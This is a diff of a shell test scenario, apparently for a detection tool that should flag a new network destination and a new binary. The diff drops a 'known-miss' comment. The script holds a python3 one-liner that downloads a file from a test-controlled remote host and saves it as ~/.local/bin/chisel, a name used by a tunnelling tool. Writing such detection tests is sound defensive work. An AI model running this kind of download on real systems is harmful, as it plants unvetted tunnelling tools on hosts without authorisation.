@@ -5,7 +5,6 @@
 # as: user
 # needs: remote
 # expect: new_destination, new_binary
-# known-miss: only new_destination (+20, low); running a freshly downloaded binary from ~/.local/bin is not a finding by itself
 set -u
 mkdir -p "$HOME/.local/bin"
 python3 -c "import urllib.request,sys; open(sys.argv[1],'wb').write(urllib.request.urlopen('http://$SNTL_REMOTE/tool', timeout=5).read())" "$HOME/.local/bin/chisel"
